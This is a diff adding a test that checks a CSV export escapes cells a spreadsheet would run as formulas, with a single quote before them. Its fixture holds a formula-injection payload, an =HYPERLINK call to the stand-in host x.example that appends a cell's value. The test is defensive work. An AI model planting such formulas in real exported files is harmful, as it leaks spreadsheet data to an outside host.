@@ -143,6 +143,40 @@ def test_csv_goes_to_standard_output(db: str) -> None:
     assert code == 2 and "--json and --format csv both choose the output" in out
 
 
+def test_csv_text_a_spreadsheet_would_run_gets_a_quote_before_it(tmp_path: Path) -> None:
+    """A text cell starting with =, +, - or @ would run as a formula in a spreadsheet (review
+    R5 F4: an agency's `=HYPERLINK(...)` would open with the file): written with a single
+    quote before it. A number stays a number: -12.5 in a number column, and "-5" or "+52"
+    in a text column (a spreadsheet reads those as numbers, not formulas)."""
+    sales = (
+        "txn,fecha,serial,price,long_gun\n"
+        'T1,01/02/2024,"=HYPERLINK(""http://x.example/?""&A1,""open"")",-12.5,no\n'
+        "T2,01/02/2024,+52 55 1234 5678,1,no\n"
+        "T3,01/02/2024,@SUM(A1:A9),2,no\n"
+        "T4,01/02/2024,-5,3,no\n"
+        "T5,01/02/2024,+52,4,no\n"
+        "T6,01/02/2024,-x-,5,no\n"
+        "T7,01/02/2024,A-1,6,no\n"
+    )
+    (tmp_path / "sales.csv").write_text(sales, encoding="utf-8")
+    (tmp_path / "sales.yaml").write_text(MAPPING, encoding="utf-8")
+    db = str(tmp_path / "l.db")
+    code, out = run("ingest", str(tmp_path / "sales.yaml"), "--db", db, "--as", "loader")
+    assert code == 0, out
+    code, out = read(db, "us_atf_sales", "--columns", "txn,serial,price", "--format", "csv")
+    assert code == 0, out
+    assert [row[:3] for row in csv.reader(io.StringIO(out))] == [
+        ["txn", "serial", "price"],
+        ["T1", '\'=HYPERLINK("http://x.example/?"&A1,"open")', "-12.5"],
+        ["T2", "'+52 55 1234 5678", "1.0"],
+        ["T3", "'@SUM(A1:A9)", "2.0"],
+        ["T4", "-5", "3.0"],
+        ["T5", "+52", "4.0"],
+        ["T6", "'-x-", "5.0"],
+        ["T7", "A-1", "6.0"],
+    ]
+
+
 def test_a_hidden_dataset_is_answered_as_a_missing_one(db: str) -> None:
     """FGR sees the sales released to MX, not the US-only dataset: reading that one gives
     the very answer a dataset that does not exist gives (exit 4), in Spanish for FGR."""
